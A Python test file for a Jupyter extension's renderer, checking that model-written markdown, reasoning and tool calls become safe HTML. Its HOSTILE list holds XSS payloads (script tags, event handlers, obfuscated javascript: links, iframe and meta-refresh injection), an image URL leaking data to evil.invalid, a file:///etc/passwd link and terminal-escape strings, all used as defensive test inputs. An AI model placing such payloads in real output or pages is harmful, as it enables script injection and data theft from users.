"""What a model writes must not harm the page that shows it."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from jupyter_uml.client import Answer
from jupyter_uml.display import render
from jupyter_uml.display.bundle import answer_bundle
from jupyter_uml.display.highlight import STYLES
from jupyter_uml.display.markdown import TAGS
from jupyter_uml.display.render import GrowingAnswer, answer_html, answer_text, to_html
from jupyter_uml.types import ToolCall

ALLOWED_ATTRIBUTES = {"href", "title", "rel", "target", "start", "style"}
HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![picture](https://evil.invalid/leak?q=secret)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](java\nscript:alert(1))",
    "[a](&#106;avascript:alert(1))",
    "[a](vbscript:x) [b](data:text/html,<script>1</script>) [c](file:///etc/passwd)",
    "[a](//evil.invalid/x) [b](/logout) [c](../api/shutdown) [d](#id) [e](\\\\evil)",
    '<javascript:alert(1)> <https://ok.example/?a="onmouseover=alert(1)>',
    '[a](https://ok.example "title\\" onmouseover=\\"alert(1)")',
    "<iframe src=//evil.invalid></iframe><object data=x></object><embed src=x>",
    "<form action=https://evil.invalid><input name=a><button>ok</button></form>",
    "<style>body{display:none}</style><link rel=stylesheet href=//evil.invalid>",
    "<svg onload=alert(1)><math><mi xlink:href='javascript:1'>",
    "<div style='position:fixed;inset:0' id='x' class='jp-Button' onclick=1>x</div>",
    "<base href=//evil.invalid><meta http-equiv=refresh content='0;url=//evil.invalid'>",
    "```html\n</code></pre><script>alert(1)</script>\n```",
    '```"onclick=alert(1) x="\ncode\n```',
    "|a|\n|:-:|\n|<img src=x onerror=alert(1)>|",
    "<!-- --!> <script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "\x00<scr\x00ipt>alert(1)</script>",
    "<a href='https://ok.example' style='color:red' target=_top onclick=1>x</a>",
]


class Page(HTMLParser):
    """The tags and attributes that a browser would see."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str]] = []
        self.text = ""
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes += [(name, value or "") for name, value in attrs]

    def handle_data(self, data: str) -> None:
        self.text += data


def check(html: str) -> None:
    page = Page(html)
    assert page.tags <= TAGS
    for name, value in page.attributes:
        assert name in ALLOWED_ATTRIBUTES
        if name == "href":
            assert re.match(r"https?://|mailto:", value, re.IGNORECASE)
        if name == "style":
            assert value in STYLES or re.fullmatch(r"text-align:(left|center|right)", value)
        if name == "target":
            assert value == "_blank"
        if name == "rel":
            assert {"noopener", "noreferrer"} <= set(value.split())


@pytest.mark.parametrize("markdown", HOSTILE)
def test_hostile_markdown_is_harmless(markdown: str) -> None:
    check(to_html(markdown))
    check(to_html(f"> - {markdown}\n\n{markdown}"))


@given(
    st.lists(st.sampled_from([*HOSTILE, "[", "](", ")", "`", "<", ">", "\n", "a", '"', "|", "*", "&#"]), max_size=12)
)
def test_pieces_of_it_in_any_order_are_harmless(pieces: list[str]) -> None:
    check(to_html("".join(pieces)))


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_reasoning_and_calls_are_harmless(text: str) -> None:
    html = answer_html(Answer("", "demo", "stop", reasoning=text, tool_calls=(ToolCall(text, text, text),)))
    calls = r"<pre [^<>]*><code>[^<>]*</code></pre>"
    parts = rf"<details [^<>]*><summary>Reasoning</summary><div [^<>]*>(.*)</div></details>{calls}"
    found = re.fullmatch(parts, html, re.DOTALL)
    assert found is not None
    check(found[1])


def test_reasoning_is_open_until_the_answer_begins() -> None:
    call = ToolCall("1", "get_weather", '{"city": "Par')
    assert "<details" not in answer_html(Answer("x", "demo", "stop"))
    assert " open><summary>" in answer_html(Answer("", "demo", "stop", reasoning="Hm."))
    assert " open" not in answer_html(Answer("x", "demo", "stop", reasoning="Hm."))
    assert " open" not in answer_html(Answer("", "demo", "stop", reasoning="Hm.", tool_calls=(call,)))


def test_a_call_is_shown_as_its_name_and_arguments() -> None:
    answer = Answer("I look.", "demo", "tool_calls", reasoning="Hm.", tool_calls=(ToolCall("1", "f", '{"a": 1}'),))
    assert "→ f {&quot;a&quot;: 1}" in answer_html(answer)
    assert answer_text(answer) == 'I look.\n→ f {"a": 1}'


def test_json_is_no_prose() -> None:
    for text in ('{"a": "*b*"}', '[{"a": "*b*', "[1, 2]", "{" + "}"):
        assert "<em>" not in answer_html(Answer(text, "demo", "stop"))
        assert answer_html(Answer(text, "demo", "stop")).startswith("<pre")
    for text in ("[link](https://ok.example) *b*", "{x} *b*", "[x] *b*"):
        assert "<em>b</em>" in answer_html(Answer(text, "demo", "stop"))


def test_every_prefix_of_an_answer_can_be_shown() -> None:
    """An answer is rendered while it is being written."""
    answer = "# Title\n\n1. **bold** [link](https://ok.example)\n\n```python\nx = 1\n```\n\n|a|b|\n|-|-|\n|1|2|\n"
    for end in range(len(answer) + 1):
        check(to_html(answer[:end]))


def test_an_image_becomes_a_link() -> None:
    html = to_html("![a *cat*](https://ok.example/cat.png)")
    assert "<img" not in html
    assert 'href="https://ok.example/cat.png"' in html
    assert "a cat" in html


@pytest.mark.parametrize(
    ("markdown", "html"),
    [
        ("**b** *i* ~~s~~ `c`", "<p><strong>b</strong> <em>i</em> <s>s</s> <code>c</code></p>"),
        ("3. x", '<ol start="3">\n<li>x</li>\n</ol>'),
        ("    a < b", "<pre><code>a &lt; b\n</code></pre>"),
        ("> q", "<blockquote>\n<p>q</p>\n</blockquote>"),
        ("1 < 2 & 3", "<p>1 &lt; 2 &amp; 3</p>"),
    ],
)
def test_markdown_is_rendered(markdown: str, html: str) -> None:
    assert to_html(markdown).strip() == html


def test_columns_keep_their_alignment() -> None:
    assert 'style="text-align:right"' in to_html("|a|\n|-:|\n|1|")


@pytest.mark.timeout(20)
@pytest.mark.parametrize(
    "piece", ["[", "![", "(", "`", "*_", "> ", "<", "&", "|", "[a](", "- ", "~~", "\\", "!", "**a "]
)
def test_no_markdown_takes_forever(piece: str) -> None:
    to_html(piece * 5000)


def test_control_characters_are_seen_and_turn_nothing_round() -> None:
    text = "\x1b]0;title\x07\x1b[2J\x9b31m\x08\x7fa\r\nuser\u202etxt.exe\u2066\tb"
    shown = "␛]0;title␇␛[2J\ufffd31m␈␡a\nusertxt.exe\tb"
    assert render.visible(text) == shown
    assert answer_text(Answer(text, "demo", "stop")) == shown
    assert "\x1b" not in answer_html(Answer(text, "demo", "stop", tool_calls=(ToolCall("1", text, text),)))
    assert render.visible("שלום، مرحبا 👩‍👧 e\u0301") == "שלום، مرحبا 👩‍👧 e\u0301"


def test_an_answer_that_grows_looks_as_it_does_whole() -> None:
    text, growing = "Intro:\n\n```python\nx = 1\n```\n\n- a\n- b\n\nThe *end*.", GrowingAnswer()
    for end in range(len(text) + 1):
        answer = Answer(text[:end], "demo", "stop", reasoning="Hm.\n\nSo."[:end])
        assert "".join(growing.html(answer).split()) == "".join(answer_html(answer).split())


def test_colours_are_named_once() -> None:
    bundle = answer_bundle(Answer("```python\nimport os\n```", "demo", "stop"), "note")
    assert bundle["text/html"].count("--jp-mirror-editor-keyword-color") == 1
    assert "--jp-mirror" not in answer_bundle(Answer("import os", "demo", "stop"), "note")["text/html"]
